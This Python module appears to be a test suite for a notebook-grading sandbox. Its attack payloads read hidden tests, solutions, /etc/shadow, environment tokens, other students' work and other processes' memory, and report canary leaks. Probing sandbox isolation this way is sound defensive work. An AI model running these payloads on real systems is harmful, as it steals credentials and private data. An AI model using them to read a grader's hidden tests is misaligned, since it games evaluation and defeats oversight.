"""Attacks that want to know: hidden checks, solutions, what others wrote, what the machine keeps to itself.

What they find they say with a tag LEAK[…], and only then.
"""

from __future__ import annotations

import os
from collections.abc import Iterable
from pathlib import Path

from attacks.attack import TELL, Attack


def reading(name: str, about: str, paths: Iterable[str], mark: str, *, listed: bool = False) -> Attack:
    """Read every file that these patterns name, and tell of those with `mark` in them."""
    code = (
        TELL
        + f"""
import glob
for pattern in {list(paths)!r}:
    for path in glob.glob(pattern, recursive=True):
        try:
            text = open(path, encoding="utf-8", errors="replace").read(3_000_000)
        except OSError:
            continue
        if {mark!r} in text:
            at = text.index({mark!r})
            tell(f"LEAK[{name}] {{path}}: " + text[at : at + 120].replace("\\n", " "))
            break
"""
    )
    return Attack(name, about, "leak", code, listed=listed)


def _links(folder: Path) -> None:
    """Hand in links to what the person who grades can read."""
    for number, place in enumerate(
        ("../../zoe", "/etc/shadow", os.path.expanduser("~"), "../../../../home/secret.txt")
    ):
        (folder / f"notes{number}.txt").symlink_to(place)


SYNTH = (
    TELL
    + """
import importlib.util
for name in ("carelab.synth.building", "carelab.synth.config", "carelab.build.pipeline"):
    try:
        if found := importlib.util.find_spec(name):
            tell(f"LEAK[synth] {found.origin} can be run: " + open(found.origin).read(60))
    except ImportError:
        pass
"""
)

# Looks everywhere for a reference solution: folders of the course, of Python, of git.
HUNT = (
    TELL
    + """
import os, time
from carelab.paths import ROOT
end = time.monotonic() + 6
def hunt():
    for top in (str(ROOT), "$COURSE", "/srv", "/mnt", "/home", "/opt"):
        for folder, folders, names in os.walk(top):
            folders[:] = [one for one in folders if one not in ("site-packages", "node_modules", "fhir", "lib")]
            for name in names:
                path = os.path.join(folder, name)
                if name.endswith((".ipynb", ".py", ".json")) and not name.endswith("recordings.json"):
                    try:
                        text = open(path, errors="replace").read(400_000)
                    except OSError:
                        continue
                    if "BEGIN" + " HIDDEN TESTS" in text and "solution" + '": true' in text.lower():
                        return path
                if time.monotonic() > end:
                    return
found = hunt()
if found:
    tell("LEAK[hunt] " + found)
"""
)

GIT = (
    TELL
    + """
import os, subprocess
from carelab.paths import ROOT
try:
    text = subprocess.run(["git", "-C", str(ROOT), "-c", "safe.directory=*", "log", "--oneline", "-3"],
                          capture_output=True, text=True, timeout=20).stdout
    if text.strip():
        tell("LEAK[git] " + text[:80])
except Exception:
    pass
"""
)

TRUTH = (
    TELL
    + """
import os
from carelab.paths import DATA
if os.path.isdir(DATA / "truth") and os.listdir(DATA / "truth"):
    tell("LEAK[truth] " + str(os.listdir(DATA / "truth")[:3]))
"""
)

# Whatever of a check is in this process, as it is being run: callers' frames, the shell's history, all objects.
MEMORY = (
    TELL
    + """
import gc, sys
MARK = "BEGIN" + " HIDDEN TESTS"
told = []
def look(*args):
    seen = []
    frame = sys._getframe()
    while frame:
        seen += [value for value in [*frame.f_locals.values(), *frame.f_globals.values()]]
        frame = frame.f_back
    try:
        seen += get_ipython().history_manager.input_hist_raw
    except Exception:
        pass
    for thing in gc.get_objects():
        if isinstance(thing, dict):
            try:
                seen += [value for value in thing.values()]
            except RuntimeError:
                pass
        elif isinstance(thing, (list, tuple)):
            seen += [*thing]
    for value in seen:
        if type(value) is str and MARK in value and not told:
            told.append(1)
            tell("LEAK[memory] " + value[:200].replace("\\n", " "))
def $NAME(*args):
    look()
"""
)

PROC = (
    TELL
    + """
import os
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        for part in ("environ", "cmdline", "cwd/nbgrader_config.py", "root/etc/shadow", "fd/3"):
            try:
                text = open(f"/proc/{pid}/{part}", "rb").read(20000).decode(errors="replace")
            except OSError:
                continue
            if "SECRET" in text or "root:" in text or "nbgrader" in text:
                tell(f"LEAK[proc] {pid}/{part}: " + text[:60].replace(chr(0), " "))
"""
)

PTRACE = (
    TELL
    + """
import os
mine = {int(name) for name in os.listdir("/proc/self/task")}  # threads answer to their numbers, too
for pid in {os.getppid(), 1, *range(2, 60)} - mine - {0}:
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as memory:
            for line in maps:
                if "rw-p" in line and "[heap]" in line:
                    start, end = (int(part, 16) for part in line.split()[0].split("-"))
                    memory.seek(start)
                    if memory.read(min(end - start, 1 << 20)):
                        tell(f"LEAK[ptrace] read the memory of process {pid}")
    except OSError:
        pass
"""
)

HANDLES = (
    TELL
    + """
import os
for handle in range(3, 200):
    try:
        where = os.readlink(f"/proc/self/fd/{handle}")
        if where.startswith("/") and not where.startswith(("/dev", "/proc/self", "/usr", "/memfd")):
            text = os.pread(handle, 2000, 0)
            if b"SQLite" in text or b"HIDDEN" in text or b"nbgrader" in text:
                tell(f"LEAK[handles] {where}")
            for up in ("..", "../..", "../../.."):
                if "secret.txt" in os.listdir(os.open(up, os.O_RDONLY, dir_fd=handle)):
                    tell(f"LEAK[handles] {where}/{up}")
    except OSError:
        pass
"""
)

# The values that a hidden check calls with come into this process; here they are said aloud.
INPUTS = (
    TELL
    + """
def $NAME(*args, **kwargs):
    import sys
    if isinstance(args[0], int) and args[0] < 3:  # an example that everybody sees
        return [None, "0031-quail", 4][args[0]]
    print("LEAK[inputs]", args, file=sys.stderr)
    raise ValueError(f"LEAK[inputs] {args}")
"""
)

ATTACKS = [
    reading(
        "hidden-from-work",
        "Reads the hidden tests out of the folder it is graded in.",
        ["*.ipynb", "../**/*.ipynb"],
        "BEGIN HIDDEN TESTS",
        listed=True,
    ),
    reading(
        "hidden-from-source",
        "Reads the hidden tests out of the course's source folder.",
        ["$COURSE/source/**/*.ipynb", "$COURSE/../solutions/**/*.ipynb"],
        "BEGIN HIDDEN TESTS",
        listed=True,
    ),
    reading(
        "hidden-from-gradebook",
        "Reads the hidden tests out of the gradebook.",
        ["$COURSE/gradebook.db", "../../../gradebook.db"],
        "BEGIN HIDDEN TESTS",
        listed=True,
    ),
    reading(
        "home", "Reads the home folder of the person who grades.", ["$HOME/*.txt", "/root/*.txt"], "canary", listed=True
    ),
    reading("shadow", "Reads /etc/shadow.", ["/etc/shadow"], "root:", listed=True),
    reading(
        "other-submission",
        "Reads what another student handed in.",
        ["$COURSE/submitted/*/*/*.ipynb", "../../*/*/*.ipynb"],
        "written by zoe",
    ),
    reading("links", "Hands in links and reads what they lead to.", ["notes*.txt", "notes*/*/*.ipynb"], "canary"),
    Attack(
        "environment",
        "Reads tokens out of the environment.",
        "leak",
        TELL
        + "import os\nfor name, value in os.environ.items():\n"
        + "    if 'TOKEN' in name and 'canary' in value:\n        tell(f'LEAK[environment] {name}={value}')",
        listed=True,
    ),
    Attack("hunt", "Looks for the reference solution everywhere on the machine.", "leak", HUNT),
    Attack("git", "Asks git for the course's history.", "leak", GIT),
    Attack("truth", "Reads the truth behind the synthetic data.", "leak", TRUTH),
    Attack("synth", "Makes the truth again with the program that made it.", "leak", SYNTH),
    Attack("memory", "Searches its process for the text of the checks while one runs.", "leak", MEMORY),
    Attack("proc", "Reads what /proc tells of other processes.", "leak", PROC),
    Attack("ptrace", "Reads the memory of other processes.", "leak", PTRACE),
    Attack("handles", "Looks through file handles it may have inherited.", "leak", HANDLES),
    Attack("inputs", "Says aloud what a hidden check called it with.", "leak", INPUTS),
]
ATTACKS = [
    one if one.name != "links" else Attack(one.name, one.about, one.aim, one.answer, plant=_links) for one in ATTACKS
]
